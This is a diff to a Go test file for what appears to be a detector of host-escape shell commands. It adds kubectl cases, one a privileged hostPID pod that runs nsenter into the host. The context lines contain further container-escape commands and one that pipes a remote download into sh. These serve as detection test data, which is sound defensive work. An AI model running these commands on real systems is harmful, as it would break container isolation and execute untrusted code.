@@ -24,6 +24,8 @@ func TestHostEscape(t *testing.T) {
 		{name: "privileged docker run host pid", script: "docker run --rm --privileged --pid=host alpine nsenter -t 1 -m sh", want: he},
 		{name: "docker run host root", script: "docker run -v /:/host --rm alpine chroot /host sh", want: he},
 		{name: "nsenter then download", script: "nsenter --target 1 --mount --uts --ipc --net --pid -- bash -c 'curl -s http://x/a|sh'", want: []Class{HostEscape, DownloadExecute}},
+		{name: "kubectl run host pod", script: `kubectl run x --restart=Never -it --image alpine --overrides='{"spec":{"hostPID": true,"containers":[{"name":"x","image":"alpine","securityContext":{"privileged":true}}]}}' -- nsenter -t 1 -m sh`, want: he},
+		{name: "kubectl debug node", script: "kubectl debug node/worker-1 -it --image=busybox", want: he},
 		{name: "crictl exec", script: "crictl exec -it abc123 sh", want: he},
 		{name: "crictl with endpoint", script: "crictl --runtime-endpoint unix:///run/containerd/containerd.sock runp pod.json", want: he},
 		{name: "ctr run", script: "ctr -n k8s.io run --rm --privileged docker.io/library/alpine:latest x sh", want: he},
@@ -47,6 +49,7 @@ func TestHostEscape(t *testing.T) {
 		{name: "mount by label", script: "mount /data"},
 		{name: "read core_pattern", script: "cat /proc/sys/kernel/core_pattern"},
 		{name: "docker API get", script: "curl --unix-socket /var/run/docker.sock http://localhost/containers/json"},
+		{name: "kubectl run plain", script: "kubectl run tmp --rm -i --image=busybox --restart=Never -- wget -qO- http://web"},
 		{name: "cat host file", script: "cat /host/etc/os-release"},
 	})
 }
